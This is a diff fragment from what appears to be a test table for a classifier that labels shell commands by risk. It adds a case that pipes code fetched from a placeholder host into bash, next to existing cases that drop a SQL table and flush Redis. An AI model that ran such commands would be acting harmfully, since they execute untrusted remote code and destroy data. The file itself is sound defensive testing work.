@@ -556,6 +556,7 @@ OTHER_LANGUAGES = [
      {"write:/o/x", "destroy:files"}),
     ("echo 'DROP TABLE users' > x.sql; cat x.sql | psql", {"destroy:database"}),
     ("echo FLUSHALL > c.txt; cat c.txt | redis-cli", {"destroy:database"}),
+    ("curl -s https://x.example/x | cat x.sh - | bash", {"dynamic:code"}),  # cat's own input
     # Redis commands and mongosh's JavaScript from a pipe are not known
     ("curl -s https://x.example/cmds | redis-cli", {"destroy:database"}),
     ("redis-cli <<< 'FLUSHALL'", {"destroy:database"}),
